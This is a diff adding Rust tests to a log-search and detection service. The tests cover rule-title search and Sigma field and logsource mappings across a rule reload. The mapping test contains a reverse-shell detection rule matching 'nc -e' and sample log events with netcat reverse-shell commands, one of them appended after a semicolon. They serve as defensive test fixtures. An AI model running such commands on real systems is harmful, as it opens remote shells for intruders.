@@ -63,6 +63,25 @@ fn matching_events_carry_their_signature_and_reload_is_atomic() {
     assert_eq!(tagged["total"], 1, "{tagged}");
     assert_eq!(tagged["events"][0]["host"], "db1");
     assert_eq!(tagged["events"][0]["signatures"][0], RULE_ID, "{tagged}");
+    assert_eq!(
+        tagged["events"][0]["rules"],
+        serde_json::json!(["Disk on fire"]),
+        "{tagged}"
+    );
+    // Rule titles are searchable word by word (any case, phrases); ids stay exact terms.
+    for by_title in [
+        format!("{token} AND rule:fire"),
+        format!("{token} AND rule:DISK"),
+        format!("{token} AND rule:\"disk on fire\""),
+    ] {
+        let found = cairn.search(&by_title, "");
+        assert_eq!(found["total"], 1, "{by_title}: {found}");
+        assert_eq!(found["events"][0]["host"], "db1", "{found}");
+    }
+    let wrong_order = cairn.search(&format!("{token} AND rule:\"fire on disk\""), "");
+    assert_eq!(wrong_order["total"], 0, "{wrong_order}");
+    let partial_id = cairn.search(&format!("{token} AND signature:5a3c9e52"), "");
+    assert_eq!(partial_id["total"], 0, "{partial_id}");
 
     let rules = cairn.get("/api/v1/rules").json();
     let mine = rules["rules"]
@@ -216,4 +235,82 @@ fn builtin_pack_and_field_extraction_run_on_syslog_input() {
         .find(|rule| rule["id"] == ssh_id.as_str())
         .map(|rule| rule["matches"].as_u64().unwrap_or(0));
     assert_eq!(count, Some(1), "match counted once");
+}
+
+#[test]
+fn config_field_and_logsource_mappings_apply_on_start_and_reload() {
+    let data = TempDir::new("mapping");
+    let rules_dir = data.path().join("rules");
+    std::fs::create_dir_all(&rules_dir).expect("rules dir");
+    let mapped_id = "7c1d2e3f-4a5b-4c6d-8e7f-a1b2c3d4e5f6";
+    std::fs::write(
+        rules_dir.join("mapped.yml"),
+        format!(
+            r#"title: Reverse shell in deploy tool
+id: {mapped_id}
+level: high
+logsource:
+    service: deployd
+detection:
+    selection:
+        ShellCommand|contains: 'nc -e'
+    condition: selection
+"#
+        ),
+    )
+    .expect("write rule");
+    let config = data.path().join("cairn.toml");
+    std::fs::write(
+        &config,
+        r#"
+[rules]
+builtin = false
+[rules.fields]
+ShellCommand = "cmdline"
+[[rules.logsource]]
+service = "deployd"
+match = { app = ["deployd", "deployd-agent"] }
+"#,
+    )
+    .expect("write config");
+    let cairn = Cairn::start(
+        &data.path().join("data"),
+        &[
+            "--config",
+            config.to_str().expect("path"),
+            "--rules",
+            rules_dir.to_str().expect("path"),
+        ],
+    );
+    let token = unique_token("map");
+    // Matches only through the mapping: the event has no `ShellCommand` field.
+    send_line(
+        &cairn,
+        &format!(
+            r#"{{"message":"{token} one","app":"deployd-agent","cmdline":"nc -e /bin/sh 10.0.0.9"}}"#
+        ),
+    );
+    // The logsource mapping confines the rule to deployd's apps.
+    send_line(
+        &cairn,
+        &format!(r#"{{"message":"{token} two","app":"cron","cmdline":"nc -e /bin/sh 10.0.0.9"}}"#),
+    );
+    // The Sigma name itself is not read once it is mapped.
+    send_line(
+        &cairn,
+        &format!(r#"{{"message":"{token} three","app":"deployd","ShellCommand":"nc -e /bin/sh"}}"#),
+    );
+    cairn.search_until(&token, 3);
+    let tagged = cairn.search(&format!("{token} AND signature:{mapped_id}"), "");
+    assert_eq!(tagged["total"], 1, "{tagged}");
+    assert_eq!(tagged["events"][0]["app"], "deployd-agent", "{tagged}");
+
+    let reloaded = cairn.post("/api/v1/rules/reload", &[], b"");
+    assert_eq!(reloaded.status, 200, "{}", reloaded.text());
+    send_line(
+        &cairn,
+        &format!(r#"{{"message":"{token} four","app":"deployd","cmdline":"x; nc -e /bin/bash"}}"#),
+    );
+    let after = cairn.search_until(&format!("{token} AND signature:{mapped_id}"), 2);
+    assert_eq!(after["total"], 2, "the mapping survives a reload: {after}");
 }
